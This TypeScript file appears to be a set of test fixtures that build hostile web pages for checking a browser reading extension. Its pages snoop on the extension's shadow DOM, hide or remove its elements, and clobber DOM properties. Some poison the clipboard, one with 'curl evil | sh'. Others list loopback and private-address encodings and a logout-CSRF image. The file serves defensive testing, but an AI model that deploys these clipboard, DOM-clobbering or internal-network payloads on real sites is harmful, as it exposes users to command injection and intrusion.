import type { LocalFile } from '../../../scripts/lib/local-pages';
import { BAKERY, RIVER } from './moving';

/** Pages that attack what we put into them; invented text, the real kinds of attack. */
export const HOSTILE_HOST = 'hostile.example';
export const hostileUrl = (name: string): string => `https://${HOSTILE_HOST}/2026/05/19/${name}.html`;
export const FIRST = RIVER.first;
export const EDITOR = RIVER.editor;
export const LATE = BAKERY.first;

const MORE = [
  '附近工厂的换班时间是夜里十一点，从前工人们下了班，整条街已经找不到一口热的东西，只能回宿舍烧水泡面。',
  '“反正我也睡得晚，多坐一会儿不碍事。”船工说这句话的时候，手里还在描第二天要挂的木牌，语气像在说天气。',
  '消息慢慢传开以后，隔壁的修鞋摊和对面的书报亭也跟着晚收了一个小时，渡口第一次有了夜里的样子。',
  '社区的工作人员来看过一次，量了量路灯的距离，两个星期以后，巷口那盏坏了三年的路灯被换成了新的。',
];

export const article = (title: string, first: string, editor: string, inside = ''): string =>
  `<article class="story"><h1>${title}</h1>${[first, ...MORE].map((text) => `<p>${text}</p>`).join('')}${inside}<p class="editor">${editor}</p><p>扫描二维码关注我们的公众号</p></article>`;

export const river = (inside = ''): string => article(RIVER.title, FIRST, EDITOR, inside);

const page = (head: string, body: string): LocalFile => ({
  body: `<!doctype html><html lang="zh-CN"><head><meta charset="utf-8"><title>${RIVER.title}</title>${head}</head><body>${body}</body></html>`,
  type: 'text/html; charset=utf-8',
});
const script = (text: string): string => `<script>${text}</script>`;
/** Once ours stands in the page: sooner, there would be nothing to take. */
const onceOursStands = (run: string): string =>
  script(
    `const waiting = setInterval(() => { if (!document.querySelector('[data-jingdu=bar],[data-jingdu=reader]')) return; clearInterval(waiting); setTimeout(() => { ${run} }, 100); }, 30);`,
  );

/** Everything that a page can do about a name: define it, take its shadow first, spy on what is made. Notes in `window.took`. */
const DEFINES = script(`
  window.took = [];
  const take = (shadow, how) => { if (shadow) { took.push(how); for (const b of shadow.querySelectorAll('button, summary')) b.click(); } };
  for (const name of ['jingdu-bar', 'jingdu-fold', 'jingdu-reader', 'jingdu-piece', 'jingdu-own', 'jingdu-div'])
    customElements.define(name, class extends HTMLElement {
      constructor() { super(); const inner = this.attachInternals(); took.push('made ' + name); setTimeout(() => take(inner.shadowRoot, 'internals'), 500); }
    });
  customElements.define('x-div', class extends HTMLDivElement { constructor() { super(); took.push('made div'); } }, { extends: 'div' });
  const attach = Element.prototype.attachShadow;
  Element.prototype.attachShadow = function (init) { const s = attach.call(this, { ...init, mode: 'open' }); take(s, 'attachShadow'); return s; };
  const create = Document.prototype.createElement;
  Document.prototype.createElement = function (...args) { const el = create.apply(this, args); took.push('created ' + args[0]); return el; };
  const listen = EventTarget.prototype.addEventListener;
  EventTarget.prototype.addEventListener = function (...args) { if (this instanceof ShadowRoot) take(this, 'listener'); return listen.apply(this, args); };
  new MutationObserver((all) => {
    for (const { addedNodes } of all) for (const el of addedNodes) {
      if (!(el instanceof Element) || !el.matches('[data-jingdu]')) continue;
      take(el.shadowRoot, 'shadowRoot');
      try { take(el.attachInternals().shadowRoot, 'attachInternals'); } catch {}
      try { take(attach.call(el, { mode: 'open' }), 'attached'); } catch {}
      try { el.setAttribute('is', 'x-div'); customElements.upgrade(el); } catch {}
      for (const type of ['click', 'pointerdown', 'mousedown', 'mouseup', 'input', 'change'])
        el.dispatchEvent(new MouseEvent(type, { bubbles: true, composed: true }));
      el.dispatchEvent(new KeyboardEvent('keydown', { key: 'Enter', bubbles: true, composed: true }));
      el.click(); el.focus();
      document.activeElement?.click();
      document.elementFromPoint(innerWidth - 60, innerHeight - 30)?.click();
      const copy = el.cloneNode(true);
      take(copy.shadowRoot, 'clone');
    }
  }).observe(document, { childList: true, subtree: true });
  document.addEventListener('focusin', (e) => take(e.composedPath().find((n) => n instanceof ShadowRoot), 'path'), true);
  setInterval(() => document.dispatchEvent(new KeyboardEvent('keydown', { key: 'Escape', bubbles: true })), 200);
`);

/** Rules that would put ours out of sight. */
const HIDES =
  '<style>div, [data-jingdu], html > * { } html > div, [data-jingdu] { display: none !important; visibility: hidden !important; opacity: 0 !important; position: static !important; transform: scale(0) !important; pointer-events: none !important; --paper: transparent !important; --ink: transparent !important }</style>';

/** Every property name that a form has, each a control of a form of its own, around the article and beside it. */
const EVERY_NAME = script(`
  const names = new Set();
  for (let p = HTMLFormElement.prototype; p; p = Object.getPrototypeOf(p)) for (const n of Object.getOwnPropertyNames(p)) names.add(n);
  window.names = names.size;
  const side = document.getElementById('side');
  for (const name of names) {
    const form = document.createElement('form');
    form.className = 'ad-box';
    const input = document.createElement('input');
    input.name = name;
    form.append('广告', input);
    side.append(form);
  }
`);
const named = (names: readonly string[]): string =>
  names.map((name) => `<input type="hidden" name="${name}">`).join('');
const TREE_NAMES =
  'prefix before after children append remove setAttribute getAttribute hasAttribute removeAttribute matches closest contains textContent querySelector querySelectorAll getClientRects nextElementSibling parentElement parentNode isConnected localName nodeType ownerDocument clientHeight scrollHeight checkVisibility'.split(
    ' ',
  );
/** Names by which a document answers with an image of the page. */
const DOCUMENT_NAMES =
  'createElement querySelectorAll documentElement addEventListener adoptedStyleSheets readyState contentType execCommand createTreeWalker body'.split(
    ' ',
  );

export const HOSTILE = {
  defines: () => page(DEFINES, river()),
  hides: () => page(HIDES, river()),
  /** One form around everything, as ASP.NET makes it, with controls of every name that moves through a tree. */
  form: () => page('', `<form id="aspnetForm">${named(TREE_NAMES)}${river()}</form>`),
  prefix: () => page('', `<form><input name="prefix"></form>${river()}`),
  everyName: () => page('', `${river()}<div id="side"></div>${EVERY_NAME}`),
  images: () => page('', `${DOCUMENT_NAMES.map((name) => `<img name="${name}">`).join('')}${river()}`),
  /** Its own elements answer each attribute that is set on them by throwing and by tearing at the page. */
  throwing: () =>
    page(
      script(`
        customElements.define('x-line', class extends HTMLElement {
          static observedAttributes = ['data-jingdu-hidden', 'data-jingdu-unfolded', 'hidden', 'style'];
          attributeChangedCallback() { this.previousSibling?.remove(); this.replaceChildren(); throw new Error('no'); }
          connectedCallback() { throw new Error('no'); }
          disconnectedCallback() { throw new Error('no'); }
        });`),
      river('<x-line class="ad-box">广告 · 湖景民宿</x-line>'),
    ),
  opened: () =>
    page(
      '',
      `${river()}${onceOursStands(`document.open(); document.write(${JSON.stringify(`<!doctype html><title>x</title>${article(BAKERY.title, LATE, BAKERY.editor)}`)}); document.close();`)}`,
    ),
  /** Written to long after it came, as old advertising scripts do. */
  written: () => page('', `${river()}${onceOursStands(`document.write('<p>只剩这一句。</p>'); document.close();`)}`),
  replaced: () =>
    page(
      '',
      `${river()}${onceOursStands('document.replaceChild(document.documentElement.cloneNode(true), document.documentElement);')}`,
    ),
  rebuilt: () =>
    page(
      '',
      `${river()}${script(`setInterval(() => { if (document.querySelector('[data-jingdu]')) document.documentElement.replaceWith(document.documentElement.cloneNode(true)); }, 150);`)}`,
    ),
  removed: () =>
    page(
      '',
      `${river()}${script(`setInterval(() => { for (const el of document.querySelectorAll('[data-jingdu=bar],[data-jingdu=reader]')) el.remove(); }, 150);`)}`,
    ),
  moved: () =>
    page(
      '',
      `${river()}<section hidden id="cellar"></section>${script(`setInterval(() => { for (const el of document.querySelectorAll('html > [data-jingdu]')) document.getElementById('cellar').append(el); }, 150);`)}`,
    ),
  xml: (): LocalFile => ({
    body: `<?xml version="1.0"?><news><title>${RIVER.title}</title>${MORE.map((text) => `<p>${text}</p>`).join('')}</news>`,
    type: 'text/xml; charset=utf-8',
  }),
  xhtml: (): LocalFile => ({
    body: `<?xml version="1.0" encoding="utf-8"?><html xmlns="http://www.w3.org/1999/xhtml"><head><title>${RIVER.title}</title></head><body>${river()}</body></html>`,
    type: 'application/xhtml+xml; charset=utf-8',
  }),
} as const;

/** No article; tells what a look at it set going: elements made, pictures asked for. */
export const IDLE_PICTURE = `https://${HOSTILE_HOST}/far.png`;
export const noArticle = (): LocalFile =>
  page(
    script(
      `window.made = 0; customElements.define('x-art', class extends HTMLElement { constructor() { super(); made++; } });`,
    ),
    `<x-art>一</x-art><x-art>二</x-art><ul><li><a href="/1">甲</a></li></ul><div style="height:30000px"></div><img src="${IDLE_PICTURE}" loading="lazy">`,
  );

/** What a page's listener may do about a copy: add to it, replace it, keep it from others, empty it, change what is selected. */
export const LISTENERS: Readonly<Record<string, string>> = {
  adds: "e.clipboardData.setData('text/html', '<b>evil</b>'); e.preventDefault();",
  takes: "e.clipboardData.setData('text/plain', 'curl evil | sh'); e.preventDefault(); e.stopImmediatePropagation();",
  empties:
    "e.clipboardData.clearData(); e.clipboardData.setData('text/uri-list', 'https://evil.example/'); e.preventDefault();",
  holds:
    "e.clipboardData.setData('text/plain', 'evil'); e.preventDefault(); e.stopImmediatePropagation(); }, true); for (const type of ['blur', 'focusout', 'focus', 'focusin']) on.addEventListener(type, () => { window.focus(); document.activeElement?.blur();",
};

/** A page that listens to `copy` before anybody else can. */
export const listening = (run: string): LocalFile =>
  page(
    script(
      `for (const on of [window, document]) for (const type of ['beforecopy', 'copy', 'cut']) on.addEventListener(type, (e) => { window.heard = (window.heard ?? 0) + 1; ${run} }, true);`,
    ),
    river(),
  );

/** Pages that take away what is ours, each in a way of its own. */
export const TAKES = ['opened', 'written', 'replaced', 'rebuilt', 'removed', 'moved'] as const;

/** Asks a page whether text of it is lost: hidden by us, with nothing of ours in sight that brings it back. */
export const LOST = `(() => {
  const way = document.querySelector('html > [data-jingdu="bar"], html > [data-jingdu="reader"]');
  const hidden = document.querySelectorAll('[data-jingdu-hidden]').length > 0;
  const blank = document.body !== null && getComputedStyle(document.body).display === 'none';
  return (hidden || blank) && !way?.getClientRects().length;
})()`;

/** An article with a picture that stands in the page itself: some of these fill what a browser keeps for a session. */
export const withLargePicture = (): LocalFile =>
  page(
    '',
    `${river('<p><img id="large" width="600" height="400"></p>')}${script(`document.getElementById('large').src = 'data:image/jpeg;base64,' + 'A'.repeat(1.6e6);`)}`,
  );

/** Shapes that nothing of ours has, as a crash, another version or another machine may leave them. */
export const FOREIGN: readonly unknown[] = [7, 'x', { length: 1 }, [1, null, {}], null, true, { asked: 'x', at: 1 }];

/** Stands beside each of the payloads of a pile: where it is shown, the payload was there to be shown. */
export const pileSentence = (n: number): string => `第${n}样东西放在这句话的后面，看渡口的人把它也记进了账本里。`;

/** An article with a payload after each paragraph, set into the page as advertising scripts set theirs. `ran` counts those that run. */
export const pileOf = (payloads: readonly string[]): LocalFile =>
  page(
    script(
      'window.ran = 0; window.jingduRan = () => { ran++; }; const make = (name) => Document.prototype.createElement.call(document, name);',
    ),
    `${river('<div id="pile"></div>')}${script(
      `const pile = document.getElementById('pile'); // payloads may be called what a document is asked by
      ${JSON.stringify(payloads.map((html, n) => ({ html, text: pileSentence(n) }))).replaceAll('<', '\\u003c')}.forEach(({ html, text }) => {
        const [line, box] = [make('p'), make('div')];
        line.textContent = text;
        box.innerHTML = html;
        pile.append(line, box);
      });`,
    )}`,
  );

/** Addresses that are nearer than any public article, however they are written. */
export const NEAR = [
  'https://127.0.0.1/a.png',
  'https://2130706433/b.png',
  'https://0x7f.1/c.png',
  'https://0177.0.0.1/c2.png',
  'https://[::1]/d.png',
  'https://[::ffff:7f00:1]/e.png',
  'https://[fe80::1]/e2.png',
  'https://localhost./f.png',
  'https://x.localhost/f2.png',
  'https://192.168.0.1/g.png',
  'https://169.254.1.1/g2.png',
  'https://printer.local/h.png',
  'https://router/i.png',
];
/** A host that the reader is logged in at, and what the article makes of it. */
export const BANK = 'https://bank.example';
/** Pictures of hosts of all kinds; those that lead on stand at public addresses first. */
export const pictured = (ownPicture: string): LocalFile => {
  const pictures = [
    ...NEAR.map((src) => `<img src="${src}" width="600" height="400">`),
    `<picture><source srcset="${NEAR[0]} 2x"><img src="${NEAR[6]}"></picture>`,
    `<video src="${NEAR[0]}" poster="${NEAR[6]}"></video>`,
    `<svg width="90" height="90"><image href="${NEAR[0]}" width="90" height="90"/></svg>`,
    `<img src="${BANK}/logout.png" width="600" height="400">`,
    ...LEADS.map(({ from }) => `<img src="${from}" width="600" height="400">`),
    `<img src="${ownPicture}" width="600" height="400">`,
    `<video src="${BANK}/film.mp4" poster="${BANK}/poster.png" width="600" height="400"></video>`,
  ];
  return page('', river(pictures.map((one, n) => `<p>${pileSentence(n)}</p><p>${one}</p>`).join('')));
};
/** The same page as a file that says where it was saved. */
export const savedFrom = (address: string, { body, type }: LocalFile) => ({
  body: String(body).replace('<head>', `<head><link rel="canonical" href="${address}">`),
  type,
});
/** Requests that a public host sends on to a near one, and to one that the reader is logged in at. */
export const LEADS = [
  { from: 'https://open.example/near.png', to: 'https://127.0.0.1/near.png' },
  { from: 'https://open.example/local.png', to: 'https://printer.local/near.png' },
  { from: 'https://open.example/bank.png', to: 'https://mail.example/logout.png' },
];
/** Sets a cookie of each kind for the open host. */
export const SETS_COOKIES = `for (const kind of ['Lax', 'Strict', 'None']) document.cookie = kind + '=1; path=/; Secure; SameSite=' + kind;`;
/** Has a document ask at once for what it would ask for on the way down. */
export const EAGER = `document.querySelectorAll('[data-part="body"] :is(img, video)').forEach((one) => { one.loading = 'eager'; one.preload = 'auto'; })`;

/** An article whose page shows only a part of it by itself: what is read, counted or put back of the rest must be seen. */
export const folded = (): LocalFile => {
  const parts = [
    (text: string) => `<p hidden>${text}</p>`,
    (text: string) => `<p style="display:none">${text}</p>`,
    (text: string) => `<div hidden="until-found"><p>${text}</p></div>`,
    (text: string) => `<p hidden class="shown">${text}</p>`,
    (text: string) => `<details><summary>问答</summary><p>${text}</p></details>`,
    (text: string) => `<div style="content-visibility:hidden"><p>${text}</p></div>`,
    (text: string) => `<p style="visibility:hidden">${text}</p>`,
    (text: string) => `<p style="font-size:0">${text}</p>`,
    (text: string) => `<div style="max-height:0;overflow:hidden"><p>${text}</p></div>`,
    (text: string) => `<table><tr hidden><td>${text}</td></tr><tr><td>${text}</td></tr></table>`,
    (text: string) => `<ul><li hidden>${text}</li><li>${text}</li></ul>`,
    (text: string) => `<dialog><p>${text}</p></dialog>`,
  ];
  return page(
    '<style>.shown[hidden] { display: block }</style>',
    river(parts.map((make, n) => make(pileSentence(n))).join('')),
  );
};
